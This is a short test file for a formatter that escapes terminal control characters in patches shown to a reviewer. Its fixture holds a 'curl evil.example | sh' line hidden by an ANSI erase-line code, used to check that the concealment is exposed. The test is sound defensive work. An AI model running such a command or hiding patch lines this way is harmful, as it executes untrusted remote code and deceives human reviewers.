import { describe, expect, it } from 'vitest';
import { forReader } from './format.js';

describe('a task-written patch on its way to stdout', () => {
  // A line that erases itself on a terminal, so the reviewer sees only the harmless one after it.
  const patch = '+\tcurl evil.example | sh\u001b[2K\r+\techo ok\n';

  it('shows a person at a terminal every control character, keeping tabs and line breaks', () => {
    expect(forReader(patch, true)).toBe('+\tcurl evil.example | sh\\x1b[2K\\r+\techo ok\n');
  });

  it('gives a pipe the true bytes, for git apply', () => {
    expect(forReader(patch, false)).toBe(patch);
  });
});
